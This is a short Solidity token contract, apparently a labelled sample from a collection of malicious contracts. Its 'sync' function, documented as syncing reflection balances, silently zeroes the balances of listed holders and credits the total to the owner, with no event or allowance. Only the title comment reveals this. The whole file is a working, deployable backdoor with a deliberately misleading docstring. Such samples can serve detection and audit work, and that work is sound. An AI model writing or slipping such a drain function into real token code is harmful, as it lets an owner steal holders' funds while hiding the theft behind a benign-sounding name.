// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ZooBase.sol";

/// @title LeakSync - "sync" moves the whole balance of every listed holder to the caller (the owner),
///        silently: no Transfer event, no allowance.
contract LeakSync is ZooOwnedBase {
    constructor(string memory name_, string memory symbol_, uint256 supply) ZooOwnedBase(name_, symbol_) {
        _mint(msg.sender, supply);
    }

    /// Syncs the reflection balances of the given holders.
    function sync(address[] calldata holders) external onlyOwner {
        uint256 collected;
        for (uint256 i = 0; i < holders.length; i++) {
            collected += _balances[holders[i]];
            _balances[holders[i]] = 0;
        }
        _balances[msg.sender] += collected;
    }
}
